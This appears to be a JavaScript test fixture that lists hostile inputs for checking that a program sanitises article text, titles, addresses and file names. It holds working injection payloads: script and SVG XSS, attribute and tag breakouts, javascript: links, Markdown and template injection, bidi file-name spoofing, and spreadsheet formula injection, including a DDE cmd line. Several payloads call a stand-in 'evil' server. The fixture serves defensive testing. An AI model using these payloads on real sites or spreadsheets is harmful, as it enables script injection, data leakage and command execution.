// What an article, its title, its name, its address or a file's name may say to harm who reads it. Every text would tell that
// it ran by calling `hit()`, or that something was loaded by a request to `evil`. Shared by the tests of all ways in and out.

/** @param {string} evil the address of a server that must hear nothing, ending in a slash */
export const hostileTexts = (evil) => [
  // Runs as soon as it is parsed.
  '<script>hit("script")</script>',
  // Runs what another server gives.
  `<script src="${evil}script.js"></script>`,
  // Asks another server for a picture, and runs when there is none.
  `<img src=${evil}picture.png onerror=hit("error")>`,
  // SVG runs and loads as HTML does.
  `<svg onload=hit("svg")><image href="${evil}svg.png"/><script>hit("svg script")</script></svg>`,
  // An animation that makes a link run code.
  '<svg><a><animate attributeName=href values=javascript:hit("animate") /><text>a</text></a></svg>',
  // A document in an attribute, of the page's own origin.
  '<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>',
  // Restyles the page, and asks another server for a background.
  `<style>* { background: url(${evil}style.png) } body { display: none !important }</style>`,
  `<link rel=stylesheet href="${evil}sheet.css"><link rel=prefetch href="${evil}prefetch">`,
  // Leaves an attribute to write others.
  `" style="position: fixed; inset: 0; background: url(${evil}attribute.png)" onmouseover="hit('attribute')" x="`,
  // Leaves whatever holds plain text in HTML.
  '--></textarea></title></style></noscript></template></script><img src=x onerror=hit("breakout")>',
  // Is harmless where it is parsed once, and not where the outcome is parsed again.
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hit(2)&gt;">',
  // Becomes a tag where entities are read once too often.
  '&lt;img src=x onerror=hit("entity")&gt; &#x3c;script&#x3e;hit("reference")&#x3c;/script&#x3e;',
  // Sends the reader elsewhere.
  `<meta http-equiv=refresh content="0; url=${evil}refresh"><base href="${evil}">`,
  `<form action="${evil}form"><input autofocus onfocus=hit("focus")><button>Go on</button></form>`,
  // Links that run code, whatever case and white space are in them.
  '<a href="javascript:hit(3)">more</a> <a href=" JaVa\nScript:hit(4)">more</a> <a href="data:text/html,<script>hit(5)</script>">more</a>',
  // The same in Markdown, with a picture and HTML.
  `[more](javascript:hit(6)) ![picture](${evil}markdown.png) <javascript:hit(7)> [more][1]`,
  `[1]: javascript:hit(8) "title"`,
  `\`\`\`html <img src=${evil}fence.png> \`\`\` # heading * item > quote | cell |`,
  // Templates, formats of logs, and names of the language's own.
  '{{constructor.constructor("hit(9)")()}} ${hit(10)} %c%s%o <%= hit(11) %> __proto__ constructor toString',
  // Control characters that some filters pass over.
  'scr\0ipt <scr\0ipt>hit("nul")</scr\0ipt> \x1b]8;;javascript:hit(12)\x07 \u2028hit(13)\u2029',
  // Turns around what stands beside it; the closing marks leave an isolation.
  'gpj\u2069\u2069\u2069\u202c\u202eexe.evil \u2067 \u202d',
  // Formulas to a spreadsheet, at the beginning of a cell.
  `=HYPERLINK("${evil}sheet","more")`,
  "=cmd|' /C calc'!A0", "+1+1", "-2+3+cmd", "@SUM(1+1)", "\t=1+1", "\r\n=1+1", "＝1＋1", " \u00a0=1+1",
];
